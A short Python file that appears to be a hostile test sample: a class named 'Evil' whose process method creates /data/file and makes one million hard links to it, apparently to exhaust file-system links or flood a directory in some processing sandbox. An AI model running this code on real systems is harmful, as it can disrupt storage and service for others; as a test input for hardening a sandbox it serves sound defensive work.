"""Makes a million links to one file."""

import os


class Evil:
    def process(self, item):
        open("/data/file", "w").close()
        for number in range(1_000_000):
            os.link("/data/file", f"/data/{number}")
        return "made"
